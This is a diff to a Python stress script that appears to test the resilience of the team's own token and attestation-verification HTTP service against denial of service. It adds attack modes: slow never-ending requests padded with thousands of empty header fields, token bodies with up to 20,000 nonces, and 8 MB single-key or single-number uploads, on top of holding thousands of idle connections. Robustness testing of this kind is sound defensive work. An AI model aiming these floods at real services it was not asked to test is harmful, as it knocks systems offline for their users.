@@ -15,6 +15,7 @@ import ssl
 import sys
 import threading
 import time
+from collections.abc import Callable
 
 CONNECTIONS = 10_000
 ATTACKER = "127.0.0.2"
@@ -47,13 +48,13 @@ class Target:
         return time.monotonic() < self.end
 
 
-def silent(target: Target) -> None:
-    """Hold as many connections as there may be, and open a new one for each that is closed."""
+def hold(target: Target, count: int, connect: Callable[[], socket.socket], pause: float = 0) -> None:
+    """Hold as many connections, and open a new one for each on which something comes or that is closed."""
     with selectors.DefaultSelector() as selector:
         while target.goes_on:
-            while target.goes_on and len(selector.get_map()) < CONNECTIONS:
+            while target.goes_on and len(selector.get_map()) < count:
                 try:
-                    connection = target.plain()
+                    connection = connect()
                 except OSError:
                     time.sleep(0.01)
                     break
@@ -61,6 +62,40 @@ def silent(target: Target) -> None:
             for key, _ in selector.select(0.1):
                 selector.unregister(key.fileobj)
                 key.fileobj.close()
+            time.sleep(pause)
+
+
+def silent(target: Target) -> None:
+    """As many connections as there may be, on which nothing is said."""
+    hold(target, CONNECTIONS, target.plain)
+
+
+def hold_with(target: Target, opening: bytes) -> None:
+    """Say the same on many connections; how fast they can be opened is not the question here."""
+
+    def connect() -> socket.socket:
+        connection = target.speaking()
+        connection.sendall(opening)
+        return connection
+
+    hold(target, 64, connect, pause=0.1)
+
+
+def fields(target: Target) -> None:
+    """Heads of nothing but small fields, as many as there may be and more, of requests that do not end."""
+    heads = [b"POST %s HTTP/1.1\r\nHost: x\r\n" % place + b"a:\r\n" * count for place in PLACES for count in (98, 2000)]
+    ends = b"Content-Length: 9\r\n\r\n1"
+    side_by_side([lambda head=head: hold_with(target, head + ends) for head in heads])
+
+
+def tokens(target: Target) -> None:
+    """Custom tokens with as many nonces as there may be, which the verifier refuses, and more."""
+    works = []
+    for count in (1000, 20000):
+        body = json.dumps({"audience": "a", "token_type": "OIDC", "nonces": [""] * count}, separators=(",", ":")).encode()
+        head = b"POST /v1/token HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body)
+        works.append(lambda request=head + body: hold_with(target, request))
+    side_by_side(works)
 
 
 def repeat(target: Target, head: bytes, piece: bytes) -> None:
@@ -118,9 +153,18 @@ def challenges(target: Target) -> None:
 
 
 def uploads(target: Target) -> None:
-    """For challenges that were asked for: all that a request may hold, in one key, and the refusal left untaken."""
+    """All that a request may hold, in one key."""
+    upload(target, b'{"', b"k", b'":1}')
+
+
+def numbers(target: Target) -> None:
+    """All that a request may hold, in one number."""
+    upload(target, b'{"a":', b"1", b"}")
+
+
+def upload(target: Target, begin: bytes, filler: bytes, end: bytes) -> None:
+    """Verify requests for challenges that were asked for; the refusal is left untaken."""
     size = 8 << 20
-    begin, end = b'{"', b'":1}'
     held: list[socket.socket] = []
     while target.goes_on:
         with contextlib.suppress(OSError, ValueError, KeyError):
@@ -129,7 +173,7 @@ def uploads(target: Target) -> None:
             answer = connection.recv(1 << 16)
             name = json.loads(answer.partition(b"\r\n\r\n")[2])["name"]
             head = f"POST /v1/{name}:verifyConfidentialSpace HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n"
-            connection.sendall(head.encode() + begin + b"k" * (size - len(begin) - len(end)) + end)
+            connection.sendall(head.encode() + begin + filler * (size - len(begin) - len(end)) + end)
             held.append(connection)
         while len(held) > 300:
             held.pop(0).close()
@@ -148,7 +192,8 @@ def main() -> None:
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     target = Target(host, int(port), float(seconds), sys.argv[5] if len(sys.argv) > 5 else None)
-    {"silent": silent, "trailers": trailers, "giants": giants, "slow": slow, "challenges": challenges, "uploads": uploads}[role](target)
+    roles = (silent, fields, tokens, trailers, giants, slow, challenges, uploads, numbers)
+    {each.__name__: each for each in roles}[role](target)
 
 
 if __name__ == "__main__":
